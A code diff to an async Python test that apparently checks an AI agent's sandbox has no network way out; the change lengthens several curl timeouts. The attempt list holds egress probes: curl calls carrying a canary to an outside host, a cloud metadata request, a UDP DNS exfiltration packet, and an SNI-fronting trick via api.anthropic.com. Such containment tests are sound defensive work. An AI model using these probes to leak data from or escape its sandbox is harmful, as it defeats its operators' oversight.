@@ -18,8 +18,8 @@ ADDRESS = "11.22.33.50"
 async def test_no_way_out_by_name_address_or_dns(conversation: Conversation) -> None:
     canary = conversation.subject.split()[1]
     attempts = {
-        "name": f"curl -sS -m 5 -o /dev/null -w '%{{http_code}}' https://{canary}.{OUTSIDE}/",
-        "plain name": f"curl -sS -m 5 -o /dev/null -w '%{{http_code}}' http://{canary}.{OUTSIDE}/",
+        "name": f"curl -sS -m 30 -o /dev/null -w '%{{http_code}}' https://{canary}.{OUTSIDE}/",
+        "plain name": f"curl -sS -m 30 -o /dev/null -w '%{{http_code}}' http://{canary}.{OUTSIDE}/",
         "address": f"curl -sS -m 5 http://{ADDRESS}/",
         "tls address": f"curl -sSk -m 5 https://{ADDRESS}/",
         "metadata": "curl -sS -m 5 http://169.254.169.254/latest/meta-data/",
@@ -27,7 +27,7 @@ async def test_no_way_out_by_name_address_or_dns(conversation: Conversation) -> 
             f'python3 -c "import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(2);'
             f"s.sendto(b'{canary}',('11.22.33.53',53)); print(s.recv(9))\""
         ),
-        "sni": f"curl -sSk -m 5 --connect-to ::api.anthropic.com:443 https://{canary}.{OUTSIDE}/",
+        "sni": f"curl -sSk -m 30 --connect-to ::api.anthropic.com:443 https://{canary}.{OUTSIDE}/",
     }
     script = "; ".join(f"echo '== {name}'; {command} 2>&1; echo \" rc=$?\"" for name, command in attempts.items())
     await conversation.plays(bash("{ " + script + "; } > /storage/attempts"), say("Tried all."))
